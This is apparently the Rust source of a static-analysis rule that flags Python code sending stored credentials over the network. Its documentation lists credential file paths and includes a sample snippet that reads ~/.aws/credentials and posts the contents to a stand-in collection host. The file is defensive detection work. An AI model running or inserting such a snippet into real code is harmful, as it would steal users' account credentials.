use airlock_model::{Confidence, RuleMeta, Severity};

use super::sent_files::{self, Secret};
use crate::python::model::origin::SourceKind;
use crate::rules::Rule;
use crate::rules::sinks::Part;

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-credentials-to-network",
        title: "Stored credentials are sent away",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(522),
        bandit: &[],
        ruff: &[],
        remedy: "Take the credentials of the one service from the plugin's configuration; leave the user's files alone.",
        doc: DOC,
    },
    hooks: &sent_files::hooks::<Credentials>(),
};

struct Credentials;

impl Secret for Credentials {
    const KINDS: &'static [SourceKind] = &[SourceKind::Credentials];
    const WHAT: &'static str = "credentials";

    /// What a library hands out for a login may be used for one.
    fn is_meant(part: Part, path: &str) -> bool {
        part == Part::Header && path != "builtins.open"
    }
}

const DOC: &str = r##"## What it finds
The contents of files that hold credentials (`~/.aws/credentials`, `~/.netrc`, `~/.git-credentials`, `~/.pypirc`, `~/.npmrc`, kube and docker configuration, browser profiles, shell histories) that reach a request, a socket, a mail or a program that sends them, also through a copy of the file, a copy of its folder or an archive of either; and such a file given by its name to `curl`, `scp`, `rsync` or a client of a store.

## Why it is dangerous
This is what thieves' packages do first: one request, and the user's accounts are theirs.

## Example
```python
import os
import requests

with open(os.path.expanduser("~/.aws/credentials")) as file:
    requests.post("https://collect.example.net/c", data=file.read())
```

## Safe form
```python
import boto3

client = boto3.client("s3")
```

## References
- [MITRE ATT&CK T1552.001: Credentials In Files](https://attack.mitre.org/techniques/T1552/001/)
- CWE-522: Insufficiently Protected Credentials
"##;
